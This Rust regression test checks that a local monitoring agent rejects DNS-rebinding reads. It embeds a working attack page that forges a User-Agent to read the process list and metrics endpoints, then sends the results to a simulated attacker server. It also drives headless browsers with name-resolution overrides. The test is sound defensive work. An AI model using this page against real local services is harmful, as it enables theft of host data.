//! DNS rebinding in real browsers, driverless: a page served under the
//! attacker's name (`rebind.test`, resolved to loopback by the browser's
//! own settings) reads the agent as its own origin, as it would once the
//! name is re-pointed at the agent. The attacker's server serves the page
//! and its report address and hands every other request, byte for byte,
//! to the agent: exactly what a rebound name delivers. The page asks for
//! the process list with a forged `User-Agent` (Firefox lets `fetch` set
//! it) and reports what it got back to the test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test harness: failing loudly is its job

mod common;

use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

use common::{Killed, Server, skipped};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

/// The attacker's name.
const NAME: &str = "rebind.test";

/// The attacker's page: what a rebound page would try, reported back.
const PAGE: &str = r#"<!doctype html><title>rebound</title><script>
(async () => {
  const out = {};
  for (const p of ['/api/processes', '/api/processes/1', '/metrics', '/api/history/metrics', '/api/4/cpu/history']) {
    try {
      const r = await fetch(p, {headers: {'User-Agent': 'curl/8.5.0'}});
      const t = await r.text();
      out[p] = r.status + (t.includes('"pid"') || t.includes('node_') || t.includes('"series"') || t.includes('"user"') ? ' data' : ' none');
    } catch (e) {
      out[p] = 'error';
    }
  }
  // The report goes by the attacker server's address: a connection of its
  // own, not one kept alive to the agent.
  await fetch('http://127.0.0.1:' + location.port + '/report?' + encodeURIComponent(JSON.stringify(out)), {mode: 'no-cors'});
})();
</script>"#;

/// The attacker's server on loopback: `/attack` is the page, `/report?…`
/// is sent to the test, everything else is forwarded to `agent` (and the
/// rest of that connection with it, as a rebound name would).
async fn attacker(agent: SocketAddr) -> (u16, mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = mpsc::channel(4);
    tokio::spawn(async move {
        while let Ok((conn, _)) = listener.accept().await {
            tokio::spawn(serve(conn, agent, tx.clone()));
        }
    });
    (port, rx)
}

async fn serve(mut conn: TcpStream, agent: SocketAddr, report: mpsc::Sender<String>) {
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match conn.read(&mut buf).await {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
    }
    let line = String::from_utf8_lossy(&head)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    let path = line.split(' ').nth(1).unwrap_or_default().to_owned();
    if path == "/attack" {
        let reply = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{PAGE}",
            PAGE.len()
        );
        let _ = conn.write_all(reply.as_bytes()).await;
    } else if let Some(query) = path.strip_prefix("/report?") {
        let text: String = form_urlencoded::parse(format!("r={query}").as_bytes())
            .map(|(_, v)| v.into_owned())
            .collect();
        let _ = report.send(text).await;
        let _ = conn
            .write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
            .await;
    } else if let Ok(mut upstream) = TcpStream::connect(agent).await
        && upstream.write_all(&head).await.is_ok()
    {
        let _ = tokio::io::copy_bidirectional(&mut conn, &mut upstream).await;
    }
}

/// A browser: its name, its program, and how to start it on `url` with a
/// profile in `dir` that resolves [`NAME`] to loopback.
type Browser = (
    &'static str,
    &'static str,
    fn(&Path, &str) -> std::process::Command,
);

fn firefox(dir: &Path, url: &str) -> std::process::Command {
    // `network.dns.localDomains`: the attacker's name resolves to loopback;
    // the rest keeps a headless Firefox from reaching out on its own.
    let prefs = [
        ("network.dns.localDomains", format!("\"{NAME}\"")),
        ("network.proxy.type", "0".to_owned()),
        ("browser.shell.checkDefaultBrowser", "false".to_owned()),
        ("app.update.enabled", "false".to_owned()),
        (
            "datareporting.policy.dataSubmissionEnabled",
            "false".to_owned(),
        ),
        (
            "toolkit.telemetry.reportingpolicy.firstRun",
            "false".to_owned(),
        ),
        ("network.captive-portal-service.enabled", "false".to_owned()),
        ("network.connectivity-service.enabled", "false".to_owned()),
        (
            "browser.startup.homepage_override.mstone",
            "\"ignore\"".to_owned(),
        ),
        ("dom.security.https_only_mode", "false".to_owned()),
    ];
    let user_js: String = prefs
        .iter()
        .map(|(k, v)| format!("user_pref(\"{k}\", {v});\n"))
        .collect();
    std::fs::write(dir.join("user.js"), user_js).unwrap();
    let mut cmd = std::process::Command::new("firefox-esr");
    cmd.env("HOME", dir)
        .env("MOZ_HEADLESS", "1")
        .args(["--headless", "--no-remote", "--profile"])
        .arg(dir)
        .arg(url);
    cmd
}

fn chromium(dir: &Path, url: &str) -> std::process::Command {
    let mut cmd = std::process::Command::new("chromium");
    cmd.env("HOME", dir)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            &format!("--host-resolver-rules=MAP {NAME} 127.0.0.1"),
        ])
        .arg(format!("--user-data-dir={}", dir.display()))
        .arg(url);
    cmd
}

const BROWSERS: [Browser; 2] = [
    ("Firefox", "/usr/bin/firefox-esr", firefox),
    ("Chromium", "/usr/bin/chromium", chromium),
];

/// What the page read from an agent started with `args`, in `browser`.
async fn rebound_page_reads(browser: &Browser, args: &[&str]) -> serde_json::Value {
    let server = Server::start(args).await;
    let (port, mut reports) = attacker(server.addr).await;
    let dir = tempfile::tempdir().unwrap();
    let url = format!("http://{NAME}:{port}/attack");
    let _browser = Killed(
        (browser.2)(dir.path(), &url)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let report = tokio::time::timeout(Duration::from_secs(90), reports.recv())
        .await
        .unwrap_or_else(|_| panic!("{}: the page reported within 90 s", browser.0))
        .unwrap();
    server.stop().await.unwrap();
    serde_json::from_str(&report).unwrap()
}

/// Firefox let a rebound page read a token-less agent: its `fetch` may set
/// `User-Agent`, and over plain HTTP a same-origin GET carries neither
/// `Origin` nor `Sec-Fetch-*`, so the page passed for a script. Every
/// request to a token-less agent is now held to the names it knows.
#[tokio::test]
async fn regression_a_rebound_page_in_firefox_read_the_process_list_of_a_token_less_agent() {
    for browser in &BROWSERS {
        if !Path::new(browser.1).exists() {
            skipped(&format!(
                "SKIPPED the rebinding test in {}: {} is not installed (.ci/run installs firefox-esr and chromium)",
                browser.0, browser.1
            ));
            continue;
        }
        // The harness can read: a name the operator allows is served.
        let allowed = rebound_page_reads(browser, &["--allowed-host", NAME]).await;
        assert_eq!(
            allowed["/api/processes"], "200 data",
            "{}: the positive control reads through the rebound name: {allowed}",
            browser.0
        );
        let read = rebound_page_reads(browser, &[]).await;
        for path in [
            "/api/processes",
            "/api/processes/1",
            "/metrics",
            "/api/history/metrics",
            "/api/4/cpu/history",
        ] {
            assert_eq!(read[path], "421 none", "{} {path}: {read}", browser.0);
        }
    }
}
